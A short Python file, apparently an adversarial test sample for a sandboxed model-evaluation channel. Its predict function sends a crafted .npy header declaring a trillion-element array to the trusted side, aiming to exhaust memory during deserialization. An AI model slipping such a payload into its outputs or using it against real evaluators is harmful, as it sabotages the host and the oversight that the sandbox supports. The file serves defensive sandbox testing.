# tries to have an array of a million million rows made on the trusted side, by the header of a .npy file
from arsenal import fit, the_channel

from kit.sandbox.channel import Frame


def predict(model, X):
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"
    header += b" " * (117 - len(header)) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header
    the_channel().send(Frame.ANSWER, b'{"predict_s": 0.0}\n' + npy)
    return [0] * len(X)
